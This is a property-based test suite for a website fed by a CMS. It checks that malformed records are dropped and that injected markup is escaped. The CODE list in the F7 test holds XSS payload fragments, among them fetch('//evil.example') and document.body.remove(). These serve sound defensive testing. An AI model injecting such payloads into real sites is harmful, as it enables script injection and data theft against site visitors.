import fc from "fast-check";
import { expect, test } from "vitest";
import { exactly, forEachCase, hostile, oneOf, words } from "./fixture/cases.ts";
import * as content from "./fixture/content-lists.ts";
import { expectSafeMarkup } from "./fixture/expect-markup.ts";
import { startFixture } from "./fixture/site-fixture.ts";

const { lists, listPaths } = content;
const FOREIGN_KEYS = words("__proto__ constructor toString length");

const oddValue = fc.oneof(
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  oneOf<unknown>(null, true, -0, 1e308, [], {}, [[]], [null], "", " ", "0000-00-00"),
  oneOf<unknown>("2026-02-30", "9999-99-99", "2026-11-20T25:61:61Z", "-271821-04-20"),
  oneOf<unknown>({ toString: 1, valueOf: 1 }, { $$typeof: "react" }),
  fc.string({ unit: "binary", maxLength: 60 }),
);
const toJson = (value: unknown): string => JSON.stringify(value) ?? "null";
/** A record as JSON text, which may have the key `__proto__`. */
const record = fc
  .array(fc.tuple(oneOf(...content.fields, ...FOREIGN_KEYS), oddValue), { maxLength: 12 })
  .map((entries) => `{${entries.map((entry) => entry.map(toJson).join(":")).join(",")}}`);
const malformed = fc.oneof({ weight: 6, arbitrary: record }, oddValue.map(toJson));
const PER_LIST = 4;

/** Whether all records have only allowed keys, strings, lists of strings, and texts of pictures. */
const hasOnlyTexts = (records: unknown): boolean =>
  Array.isArray(records) &&
  records.every((entry: unknown) => {
    if (typeof entry !== "object" || entry === null || Array.isArray(entry)) return false;
    const isText = (value: unknown) => typeof value === "string";
    const hasOwnKeys = Object.keys(entry).every((key) => !FOREIGN_KEYS.includes(key));
    const { pictures = [], ...others } = entry as { pictures?: object[] };
    const values = [...Object.values(others), ...pictures.flatMap((one) => Object.values(one))];
    return hasOwnKeys && values.every((value) => [value].flat().every(isText));
  });

test("F5: only records with a wrong shape are left out", async () => {
  const { cms, site } = await startFixture();
  const round = exactly(lists.length, exactly(PER_LIST, malformed));
  const amount = { few: 168, casesEach: lists.length * PER_LIST };
  await forEachCase(round, amount, async (records, index) => {
    const word = `Word${index}x`;
    for (const [at, { path, make }] of lists.entries()) {
      const json = `[${records[at]?.toSpliced(2, 0, toJson(make(word))).join(",")}]`;
      cms.handle(path, (_, response) => content.sendJson(response, json));
    }
    await content.waitForLists(site, word, 6_000);
    for (const path of listPaths)
      expect(JSON.parse((await site.send(path)).text), path).toSatisfy(hasOnlyTexts);
    await content.expectPagesToContain(site, word);
    for (const path of content.somePages) await site.request(path, [200]);
  });
});

const CODE = ["alert(1)", "fetch('//evil.example')", "document.body.remove()"];
const attack = fc
  .tuple(hostile("markup"), oneOf(...CODE))
  .map(([text, code]) => text.replace("CODE", code));
const part = fc.oneof(
  { weight: 4, arbitrary: attack },
  fc.string({ unit: "grapheme", maxLength: 20 }),
  oneOf(...words("<p> </p> <em> </ul> <h2> < > \" ' & `")),
);
const markup = fc.array(part, { minLength: 1, maxLength: 4 }).map((parts) => parts.join(""));
const link = fc.oneof(markup, hostile("link"));
const LINKS = words("attachments images image");
/** Only a record with these values is shown. */
const UNCHANGED = words("date fromDate category class sessionYear division");
const round = fc.record({ some: exactly(24, markup), links: exactly(10, link), body: markup });

test("F7: markup and scripts in texts and links are shown as text or left out", async () => {
  const { cms, site } = await startFixture();
  await forEachCase(round, { few: 70, casesEach: 35 }, async ({ some, links, body }, index) => {
    const word = `Word${index}x`;
    let used = 0;
    const attackField = ([key, value]: [string, unknown]): [string, unknown] => {
      used += 1;
      if (LINKS.includes(key)) return [key, links];
      if (key === "url") return [key, links[used % links.length]];
      if (key === "message") return [key, `<p>Dear ${body} parents</p><p>${word}</p>`];
      if (key === "pictures")
        return [key, links.map((file, n) => ({ file, alt: some[n], caption: some[n + 1] }))];
      return UNCHANGED.includes(key) ? [key, value] : [key, `${some[used % some.length]} ${value}`];
    };
    for (const { path, make } of lists) {
      const attacked = Object.fromEntries(Object.entries(make(word)).map(attackField));
      cms.serve(path, [attacked, make(`${word}plain`)]);
    }
    await content.waitForLists(site, word, 6_000);
    await content.expectPagesToContain(site, word);
    const pages = new Set([...lists.flatMap(({ page }) => page ?? []), "/SubGallery"]);
    // The loop also visits the record pages that it adds to the set.
    for (const path of pages.add("/search?q=word").add("/newsletter")) {
      const { text } = await site.request(path, [200, 404]);
      expectSafeMarkup(path, text);
      const [, address] = /href="(\/(?:Events|News)\/[^"]+)"/.exec(text) ?? [];
      if (path === "/Events" || path === "/News")
        pages.add(address?.replaceAll("&amp;", "&") ?? "/");
    }
    const { text } = await site.send("/principal-message");
    // Bidi controls have no effect inside an attribute.
    expect(text.replace(/<[^>]*>/g, "")).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(text, "the end of the message").toContain(word);
  });
});
